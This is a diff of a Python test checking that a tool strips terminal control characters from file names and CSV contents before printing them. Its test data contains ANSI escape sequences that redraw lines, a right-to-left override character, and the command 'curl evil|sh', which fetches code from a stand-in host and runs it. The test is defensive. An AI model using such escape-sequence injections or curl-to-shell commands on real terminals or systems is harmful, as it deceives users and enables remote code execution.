@@ -133,13 +133,13 @@ def test_the_key_of_the_sample_is_public_on_loopback_only() -> None:
 
 def test_a_file_does_not_write_to_the_terminal(tmp_path: Path) -> None:
     """Names with control characters cannot redraw the lines that a reader pastes."""
-    source = tmp_path / "x%1B]0;title%07.csv"
+    source = tmp_path / "x%1B]0;title%07 \x1b]0;title\x07.csv"
     source.write_text("n\x1b[1A\x1b[2Kcurl evil|sh #,\u202eb\x7f\n1,2\n")
     with running(tmp_path / "log", "demo", str(source), "--port", "0", last_words="Ctrl-C") as demo:
         said = "".join(demo.said)
 
     assert [each for each in said if not each.isprintable() and each != "\n"] == []
-    assert said.count("/v2/sheets/x%1B%5D0%3Btitle%07 has the fields n") == 1
+    assert said.count("Reading ") == said.count("%07%20%1B%5D0%3Btitle%07 has the fields n") == 1
 
 
 @pytest.mark.parametrize(
